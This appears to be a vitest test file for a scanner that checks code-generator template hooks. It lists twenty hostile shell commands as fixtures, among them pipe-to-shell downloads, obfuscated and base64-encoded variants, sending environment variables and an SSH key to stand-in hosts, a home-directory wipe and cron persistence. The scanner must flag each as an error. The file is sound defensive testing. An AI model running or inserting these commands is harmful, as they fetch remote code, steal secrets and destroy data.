import { describe, expect, test } from "vitest";
import { scanFiles } from "./scan.ts";

/** Commands that get past a list of forbidden substrings, as generators have had. */
const hostile: readonly string[] = [
  "curl -sSf https://get.example/x | zsh",
  "wget -qO- https://get.example/x | python3 -",
  "curl https://get.example/x | perl",
  "curl https://get.example/x | sudo -H env bash -s -- --yes",
  "bash <(curl -s https://get.example/x)",
  ". <(wget -qO- https://get.example/x)",
  'sh -c "$(curl -fsSL https://get.example/x)"',
  'eval "$(wget -qO- https://get.example/x)"',
  "curl -so /tmp/f https://get.example/x; sh /tmp/f",
  "wget https://get.example/tool && chmod u+x tool && ./tool",
  "c''url https://get.example/x | s\\h",
  "a=cu; b=rl; $a$b https://get.example/x | sh",
  "echo Y3VybCBo | base64 --decode | bash",
  "python3 -c \"import urllib.request as u; exec(u.urlopen('https://get.example/x').read())\"",
  "git config core.hooksPath .tool && git commit -m x",
  'curl -d "$(env | base64)" https://collect.example/',
  "rm -r -f -- ~",
  "echo '* * * * * sh /tmp/x' | crontab -",
  "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAGkAdwByACkA",
  "tar cz ~/.ssh/id_rsa | nc collect.example 9000",
];

const benign: readonly string[] = [
  "rustfmt src/lib.rs",
  "prettier --write src/index.ts",
  "gofmt -w main.go",
  "black --quiet src/app.py",
  "cargo fmt",
  "clang-format -i src/main.c && shfmt -w scripts/build.sh",
];

function hook(command: string): Readonly<Record<string, string>> {
  const block = command
    .split("\n")
    .map((line) => `  ${line}\n`)
    .join("");
  return { "templates/a.tmpl": `---\nto: src/a.rs\nsh_after: |\n${block}---\nfn main() {}\n` };
}

describe("a hook", () => {
  test.each(hostile)("is an error for what it does, not only for being there: %s", (command) => {
    const errors = scanFiles(hook(command)).findings.filter(({ severity }) => severity === "error");
    expect(errors.map(({ rule }) => rule)).not.toEqual([]);
  });

  test.each(benign)("that formats is a note: %s", (command) => {
    const { findings } = scanFiles(hook(command));
    expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([["security/shell-hook", "note"]]);
  });
});
